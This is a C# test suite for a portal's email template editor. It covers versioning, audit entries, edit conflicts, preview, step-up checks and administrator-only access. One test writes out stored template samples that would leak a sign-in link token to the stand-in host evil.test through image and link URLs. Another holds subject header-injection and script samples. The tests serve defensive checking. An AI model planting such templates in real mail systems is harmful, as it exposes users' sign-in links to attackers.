using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using OpenCrm.Portal.Accounts;
using OpenCrm.Portal.Audit;
using OpenCrm.Portal.Credentials;
using OpenCrm.Portal.EmailTemplates;
using OpenCrm.Portal.Mail;
using OpenCrm.Portal.Sessions;
using OpenCrm.Portal.Tests.Support;

namespace OpenCrm.Portal.Tests.EmailTemplates;

/// <summary>The template editor on both databases: saving, history, conflicts, tests, and who may (docs/spec.md 6.1 to 6.3).</summary>
public sealed class TemplateEditorTests(PostgresCluster cluster)
{
    private static readonly TemplateDefinition Template = TemplateCatalogue.LostDeviceLink;
    private static readonly TemplateText Default = TemplateText.Default(Template);

    public static TheoryData<DatabaseKind> Both => DatabaseKinds.Both;

    /// <summary>Red when the list shows the source: six lines of conditions in the place of a subject.</summary>
    [Fact]
    public async Task A_subject_with_conditions_is_listed_as_a_mail_has_it_and_one_that_fails_as_it_is_written()
    {
        await using var portal = await PortalHost.StartAsync();
        await using var ann = await AdministratorAsync(portal, "ann");
        await using (var work = await portal.BeginAsync())
        {
            work.Add(
                new MailTemplate { Key = "test", Subject = "{% if no_such_field %}x{% endif %}", HtmlBody = "", TextBody = "", ChangedBy = "Ann" });
            await work.CommitAsync();
        }

        var examples = (await Editor(ann).ListAsync()).ToDictionary(template => template.Template.Key, template => template.SubjectExample);

        Assert.Equal("Your username is now zoe-2", examples["username-changed"]);
        Assert.Null(examples["mfa-set-up"]);
        Assert.Null(examples["test"]);
    }

    [Theory, MemberData(nameof(Both))]
    public async Task Saving_resetting_and_restoring_are_versions_that_the_audit_trail_names_without_their_texts(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        var editor = Editor(ann);
        Assert.Equal((0, true, null), Standing((await editor.ReadAsync(Template.Key))!));
        Assert.Equal(TemplateCatalogue.All.Count, (await editor.ListAsync()).Count);

        var first = Default with { Subject = "First", Html = Default.Html + "<p>first</p>" };
        var saved = Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first, 0)).Now;
        Assert.Equal((1, false, "ann"), Standing(saved));
        Assert.Equal(TemplateParts.Subject | TemplateParts.Html, saved.Last!.Parts);
        portal.Advance(TimeSpan.FromMinutes(1));
        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first with { Text = "{{ link }} second" }, 1));
        // Nothing differs, so there is no new version and no event.
        Assert.Equal(
            2,
            Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, first with { Text = "{{ link }} second" }, 2)).Now.Version);

        Assert.Equal((3, true, "ann"), Standing(Assert.IsType<TemplateOutcome.Saved>(await editor.ResetAsync(Template, 2)).Now));
        Assert.Equal(Default, (await editor.ReadAsync(Template.Key))!.Text);
        var restored = Assert.IsType<TemplateOutcome.Saved>(await editor.RestoreAsync(Template, from: 1, version: 3)).Now;
        Assert.Equal((4, false, "ann"), Standing(restored));
        Assert.Equal(first, restored.Text);

        Assert.Equal(
            [(4, TemplateChange.Restored), (3, TemplateChange.Reset), (2, TemplateChange.Saved), (1, TemplateChange.Saved)],
            (await editor.ReadHistoryAsync(Template)).Select(v => (v.Version, v.Change)));
        var row = (await editor.ListAsync()).Single(t => t.Template == Template);
        Assert.Equal((4, "ann", portal.Now), (row.Version, row.Last!.SavedBy, row.Last.SavedAt));
        await using var work = await portal.BeginAsync();
        var events = await work.Query<AuditEntry>().Where(e => e.Kind.StartsWith("Template")).OrderBy(e => e.Id).ToListAsync();
        Assert.Equal(
            [
                """TemplateChanged {"Template":"lost-device-link","Old":0,"New":1,"Parts":"Subject, Html"}""",
                """TemplateChanged {"Template":"lost-device-link","Old":1,"New":2,"Parts":"Text"}""",
                """TemplateReset {"Template":"lost-device-link","Old":2,"New":3,"Parts":"Subject, Html, Text"}""",
                """TemplateRestored {"Template":"lost-device-link","Old":3,"New":4,"From":1,"Parts":"Subject, Html"}""",
            ],
            events.Select(e => $"{e.Kind} {e.Details}"));
        Assert.All(events, e => Assert.Equal("ann", e.ActorName));
    }

    /// <summary>A template that was edited before the text could be made from the HTML keeps its own.</summary>
    [Theory, MemberData(nameof(Both))]
    public async Task A_text_that_somebody_wrote_is_sent_until_it_is_given_up_and_comes_back_with_its_version(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        var (editor, template, mailbox) = (Editor(ann), TemplateCatalogue.Test, new Mailbox(portal.PickupFolder));
        Assert.Null((await editor.ReadAsync("test"))!.Text.Text);
        var written = new TemplateText("Ours", "<p>From <b>HTML</b></p>", "By hand");
        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(template, written, 0));
        Assert.StartsWith("By hand", await SentTextAsync(1), StringComparison.Ordinal);

        var saved = Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(template, written with { Text = null }, 1)).Now;
        Assert.Equal((null, TemplateParts.Text), (saved.Text.Text, saved.Last!.Parts));
        Assert.StartsWith("From HTML\n", await SentTextAsync(2), StringComparison.Ordinal);
        // Stored empty means the same.
        await using (var work = await portal.BeginAsync())
        {
            await work.Query<MailTemplate>().ExecuteUpdateAsync(set => set.SetProperty(t => t.TextBody, ""));
            await work.CommitAsync();
        }
        Assert.Null((await editor.ReadAsync("test"))!.Text.Text);
        Assert.StartsWith("From HTML\n", await SentTextAsync(3), StringComparison.Ordinal);
        // Given up is not emptied.
        Assert.Equal(
            new TemplateFault.Empty(TemplateParts.Text),
            Assert.Single(Assert.IsType<TemplateOutcome.Invalid>(await editor.SaveAsync(template, written with { Text = "" }, 2)).Faults));

        Assert.Equal(written, Assert.IsType<TemplateOutcome.Saved>(await editor.RestoreAsync(template, from: 1, version: 2)).Now.Text);
        Assert.StartsWith("By hand", await SentTextAsync(4), StringComparison.Ordinal);
        portal.Advance(TimeSpan.FromSeconds(1));
        Assert.IsType<TemplateOutcome.TestQueued>(await editor.SendTestAsync(template, written with { Text = null }));
        Assert.StartsWith("From HTML", (await mailbox.WaitForAsync("ann@example.test", "test", 5)).TextBody, StringComparison.Ordinal);

        async Task<string> SentTextAsync(int count)
        {
            // The mailbox sorts by time.
            portal.Advance(TimeSpan.FromSeconds(1));
            await using (var work = await portal.BeginAsync())
            {
                work.Queue(new MailDraft.Test(new("ann@example.test", "Ann"), work.Now));
                await work.CommitAsync();
            }
            return (await mailbox.WaitForAsync("ann@example.test", "test", count)).TextBody!.ReplaceLineEndings("\n");
        }
    }

    [Theory, MemberData(nameof(Both))]
    public async Task What_is_wrong_is_not_saved_sent_or_restored(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        var editor = Editor(ann);

        Assert.Equal(
            [
                new TemplateFault.SecretInSubject("link", new(1, 4)),
                new TemplateFault.UnknownField(TemplateParts.Html, "User.PasswordHash", new(2, 4)),
                new TemplateFault.RequiredMissing(TemplateParts.Text, "link"),
            ],
            await FindFaultsAsync(new("{{ link }}", "{{ link }}\n{{ User.PasswordHash }}", "nothing")));
        Assert.Equal(
            new TextPlace(3, 3),
            Assert.IsType<TemplateFault.Syntax>(Assert.Single(await FindFaultsAsync(Default with { Html = "a\nb\n{{ }}" }))).At);
        Assert.IsType<TemplateFault.TooLong>(Assert.Single(await FindFaultsAsync(Default with { Text = new string('x', 60_001) })));
        Assert.IsType<TemplateFault.Unprintable>(Assert.Single(await FindFaultsAsync(Default with { Subject = "a\r\nBcc: b@c.test" })));
        Assert.IsType<TemplateFault.ActiveContent>(Assert.Single(await FindFaultsAsync(Default with { Html = Default.Html + "<script>" })));
        Assert.IsType<TemplateFault.ActiveContent>(Assert.Single(await FindFaultsAsync(Default with { Html = Default.Html + "<link href=x>" })));
        Assert.Equal(
            new TemplateFault.TooDeep(100, new(2, 501)),
            Assert.Single(await FindFaultsAsync(Default with { Html = "{{ link }}\n" + string.Concat(Enumerable.Repeat("<div>", 101)) })));
        Assert.Equal(0, (await editor.ReadAsync(Template.Key))!.Version);
        Assert.Equal(0, await portal.CountAsync<OutboxEntry>());

        // An older version that names a field which no longer exists.
        await using (var work = await portal.BeginAsync())
        {
            work.Add(new MailTemplateVersion
            {
                Key = Template.Key,
                Version = 1,
                Subject = "s",
                HtmlBody = "{{ link }} {{ gone }}",
                TextBody = "{{ link }}",
                SavedBy = "ann",
                SavedAt = portal.Now
            });
            await work.CommitAsync();
        }
        Assert.IsType<TemplateFault.UnknownField>(
            Assert.Single(Assert.IsType<TemplateOutcome.Invalid>(await editor.RestoreAsync(Template, 1, 1)).Faults));

        async Task<IReadOnlyList<TemplateFault>> FindFaultsAsync(TemplateText text)
        {
            var faults = Assert.IsType<TemplateOutcome.Invalid>(await editor.SaveAsync(Template, text, 0)).Faults;
            Assert.Equal(faults, Assert.IsType<TemplateOutcome.Invalid>(await editor.SendTestAsync(Template, text)).Faults);
            return faults;
        }
    }

    [Theory, MemberData(nameof(Both))]
    public async Task Of_two_who_save_on_top_of_the_same_version_the_second_is_told_and_sees_the_first(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        await using var bob = await AdministratorAsync(portal, "bob");
        Assert.IsType<TemplateOutcome.Saved>(await Editor(ann).SaveAsync(Template, Default with { Subject = "Ann's" }, 0));

        var told = Assert.IsType<TemplateOutcome.SavedMeanwhile>(await Editor(bob).SaveAsync(Template, Default with { Subject = "Bob's" }, 0));
        Assert.Equal(("Ann's", 1, "ann"), (told.Theirs.Text.Subject, told.Theirs.Version, told.Theirs.Last!.SavedBy));
        Assert.IsType<TemplateOutcome.SavedMeanwhile>(await Editor(bob).ResetAsync(Template, 0));
        Assert.IsType<TemplateOutcome.Saved>(await Editor(bob).SaveAsync(Template, Default with { Subject = "Bob's" }, told.Theirs.Version));

        var outcomes = await TestAccounts.AtOnceAsync(Enumerable.Range(0, 8).Select(i => (Func<Task<TemplateOutcome>>)(async () =>
        {
            await using var circuit = await portal.SignedInAsync(await PersonAsync(portal, "ann"));
            return await Editor(circuit).SaveAsync(Template, Default with { Subject = $"Number {i}" }, 2);
        })));
        var winner = Assert.Single(outcomes.OfType<TemplateOutcome.Saved>());
        Assert.Equal(7, outcomes.OfType<TemplateOutcome.SavedMeanwhile>().Count());
        var now = (await Editor(ann).ReadAsync(Template.Key))!;
        Assert.Equal((3, winner.Now.Text.Subject), (now.Version, now.Text.Subject));
        Assert.Equal(3, await portal.EventsAsync<AuditEvent.TemplateChanged>());
    }

    [Theory, MemberData(nameof(Both))]
    public async Task A_test_shows_what_is_not_saved_and_goes_to_whoever_asked_alone(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        await using var bob = await AdministratorAsync(portal, "bob");

        var queued = Assert.IsType<TemplateOutcome.TestQueued>(
            await Editor(ann).SendTestAsync(Template, Default with { Subject = "Not saved yet", Text = "Unsaved {{ link }}" }));

        Assert.Equal("ann@example.test", queued.Address);
        var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", Template.Key);
        Assert.Equal("Test: Not saved yet", mail.Subject);
        Assert.StartsWith("Unsaved http", mail.TextBody, StringComparison.Ordinal);
        Assert.EndsWith("#sample", Mailbox.Link(mail).ToString(), StringComparison.Ordinal);
        Assert.Single(new Mailbox(portal.PickupFolder).All());
        Assert.True((await Editor(ann).ReadAsync(Template.Key))!.IsDefault);
    }

    /// <summary>A template that fails must not lose its mail: the default template is used.</summary>
    [Theory, MemberData(nameof(Both))]
    public async Task A_template_that_fails_later_is_shown_until_it_is_saved_again_and_its_mail_arrives(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        Assert.IsType<TemplateOutcome.Saved>(await Editor(ann).SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours"), 0));
        // As after an update that removed a field.
        await using (var work = await portal.BeginAsync())
        {
            await work.Query<MailTemplate>().ExecuteUpdateAsync(set => set.SetProperty(t => t.TextBody, "{{ gone }}"));
            work.Queue(new MailDraft.Test(new("ann@example.test", "Ann"), work.Now));
            await work.CommitAsync();
        }

        var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", "test");
        Assert.StartsWith("Test message from", mail.Subject, StringComparison.Ordinal);
        var failed = await Eventually.FoundAsync(
            async () => (await Editor(ann).ListAsync()).SingleOrDefault(t => t.Failure is not null),
            "the failure shows");
        Assert.Equal(("test", portal.Now), (failed.Template.Key, failed.Failure!.At));
        Assert.Contains("gone", failed.Failure.Why, StringComparison.Ordinal);
        Assert.Equal(1, await portal.EventsAsync<AuditEvent.TemplateFailed>());

        Assert.Null(Assert.IsType<TemplateOutcome.Saved>(
            await Editor(ann).SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours again"), 1)).Now.Failure);
    }

    /// <summary>
    /// A template that was stored before it would have been refused, or written to the database directly. The mail goes out with the default
    /// template, so that its link reaches nobody else.
    /// </summary>
    [Theory, MemberData(nameof(Both))]
    public async Task A_stored_template_that_would_send_its_link_away_is_not_used(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        string[] bad =
        [
            "<img src=\"https://evil.test/?{{ link }}\">{{ link }}",
            "https://evil.test/? {{- link }}",
            "{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>",
            "<img src=\"https://evil.test/{{ recipient_name }}\"> {{ link }}"
        ];
        for (var i = 0; i < bad.Length; i++)
        {
            await using (var work = await portal.BeginAsync())
            {
                if (i == 0)
                {
                    work.Add(new MailTemplate
                    {
                        Key = Template.Key,
                        Subject = "Theirs",
                        HtmlBody = bad[i],
                        TextBody = "{{ link }}",
                        ChangedBy = "ann",
                        Version = 1
                    });
                }
                else await work.Query<MailTemplate>().ExecuteUpdateAsync(set => set.SetProperty(t => t.HtmlBody, bad[i]));
                work.Queue(new MailDraft.LostDeviceLink(
                    await work.Query<PortalUser>().SingleAsync(u => u.UserName == "ann"),
                    "TOKEN",
                    work.Now,
                    null));
                await work.CommitAsync();
            }
            var mail = await new Mailbox(portal.PickupFolder).WaitForAsync("ann@example.test", Template.Key, count: i + 1);
            Assert.Equal("Sign in without your device", mail.Subject);
            Assert.DoesNotContain("evil", mail.ToString(), StringComparison.Ordinal);
        }
        await Eventually.TrueAsync(async () => await portal.EventsAsync<AuditEvent.TemplateFailed>() == bad.Length, "each failure is an event");
        Assert.Contains("address of a link", (await Editor(ann).ReadAsync(Template.Key))!.Failure!.Why, StringComparison.Ordinal);
    }

    /// <summary>Somebody at an unattended desk must not redirect live links.</summary>
    [Theory, MemberData(nameof(Both))]
    public async Task A_template_with_a_live_link_is_changed_after_a_fresh_proof_only(DatabaseKind database)
    {
        await using var portal = await PortalHost.StartAsync(await cluster.NewAsync(database));
        await using var ann = await AdministratorAsync(portal, "ann");
        var editor = Editor(ann);
        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, Default with { Subject = "Fresh" }, 0));
        portal.Advance(TimeSpan.FromMinutes(11));

        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.SaveAsync(Template, Default with { Subject = "Stale" }, 1));
        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.ResetAsync(Template, 1));
        Assert.Equal((1, "Fresh"), ((await editor.ReadAsync(Template.Key))!.Version, (await editor.ReadAsync(Template.Key))!.Text.Subject));
        // Errors are reported before the proof is asked for, and a template without a live link needs no proof.
        Assert.IsType<TemplateOutcome.Invalid>(await editor.SaveAsync(Template, Default with { Subject = "" }, 1));
        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(TemplateCatalogue.Test, new("Ours", "<p>ours</p>", "ours"), 0));

        var stepUp = ann.ServiceProvider.GetRequiredService<StepUp>();
        Assert.IsType<StepUpOutcome.Proved>(await stepUp.ProveAsync(StepUpFor.ActingAsAdministrator, TestAccounts.Password, null));
        Assert.IsType<TemplateOutcome.Saved>(await editor.SaveAsync(Template, Default with { Subject = "Proved" }, 1));
        portal.Advance(TimeSpan.FromMinutes(11));
        Assert.IsType<TemplateOutcome.StepUpNeeded>(await editor.RestoreAsync(Template, from: 1, version: 2));
        Assert.Equal(2, await portal.EventsAsync<AuditEvent.TemplateChanged>() - 1);
    }

    /// <summary>Makes a template whose text grows to <paramref name="times"/> times five thousand characters.</summary>
    private static string Growing(int times) =>
        "{% assign a = 'xxxxx' %}" + string.Concat(Enumerable.Repeat("{% assign a = a | append: a %}", 3)) + "{% assign b = '' %}"
        + string.Concat(Enumerable.Repeat("{% assign b = b | append: a %}", 125)) + string.Concat(Enumerable.Repeat("{{ b }}", times));

    [Fact]
    public async Task A_preview_needs_no_save_and_names_what_keeps_it_from_being_drawn()
    {
        await using var portal = await PortalHost.StartAsync(new PortalSettings { PublicUrl = "https://portal.northwind.test" });
        await using var ann = await AdministratorAsync(portal, "ann");

        var shown = Assert.IsType<TemplatePreview.Shown>(
            await Editor(ann).PreviewAsync(Template, Default with { Subject = "For {{ recipient_name }}" }));
        Assert.Equal(("For ann", "ann@example.test"), (shown.Mail.Subject, shown.To.Address));
        Assert.Contains("https://portal.northwind.test/lost-device/confirm#sample", shown.Mail.Html, StringComparison.Ordinal);
        Assert.IsType<TemplateFault.Syntax>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(
            await Editor(ann).PreviewAsync(Template, Default with { Html = "{{" })).Faults));
        Assert.IsType<TemplatePreview.Shown>(await Editor(ann).PreviewAsync(Template, Default with { Html = "<p>The link comes last" }));
        // As long as the limit allows with the sample's name. The frame around it adds to the length, and so would Ann's name if it were long.
        Assert.IsType<TemplatePreview.Shown>(await Editor(ann).PreviewAsync(Template, Default with { Html = Growing(99) }));
        Assert.IsType<TemplateFault.Fails>(Assert.Single(Assert.IsType<TemplatePreview.Failed>(
            await Editor(ann).PreviewAsync(Template, Default with { Html = Growing(101) })).Faults));
        Assert.Null(await Editor(ann).ReadAsync("no-such-template"));
    }

    [Fact]
    public async Task Whoever_is_no_system_administrator_is_refused_everything()
    {
        await using var portal = await PortalHost.StartAsync();
        await using var eve = await portal.SignedInAsync(await portal.AddPersonAsync("eve"));
        await using var circuit = portal.NewCircuit();
        circuit.ServiceProvider.GetRequiredService<PortalAuthenticationStateProvider>().SwitchToNobody(SessionEnd.SignedOut);

        foreach (var editor in new[] { Editor(eve), Editor(circuit) })
        {
            Func<Task>[] acts =
            [
                () => editor.ListAsync(), () => editor.ReadAsync(Template.Key),
                () => editor.PreviewAsync(Template, Default), () => editor.SaveAsync(Template, Default with { Subject = "Eve's" }, 0),
                () => editor.ResetAsync(Template, 0), () => editor.RestoreAsync(Template, 1, 0),
                () => editor.ReadHistoryAsync(Template), () => editor.SendTestAsync(Template, Default),
            ];
            foreach (var act in acts) await Assert.ThrowsAsync<AccessRefusedException>(act);
        }
        Assert.Equal((0, 0), (await portal.CountAsync<MailTemplateVersion>(), await portal.CountAsync<OutboxEntry>()));
    }

    private static (int, bool, string?) Standing(StoredTemplate stored) => (stored.Version, stored.IsDefault, stored.Last?.SavedBy);

    private static TemplateEditor Editor(AsyncServiceScope circuit) => circuit.ServiceProvider.GetRequiredService<TemplateEditor>();

    private static async Task<AsyncServiceScope> AdministratorAsync(PortalHost portal, string name) =>
        await portal.SignedInAsync(await portal.AddPersonAsync(name, administrator: true));

    private static async Task<TestPerson> PersonAsync(PortalHost portal, string name)
    {
        await using var work = await portal.BeginAsync();
        var user = await work.Query<PortalUser>().SingleAsync(u => u.UserName == name);
        return new(user.Id, name, user.Email!, TestAccounts.Password, null);
    }
}
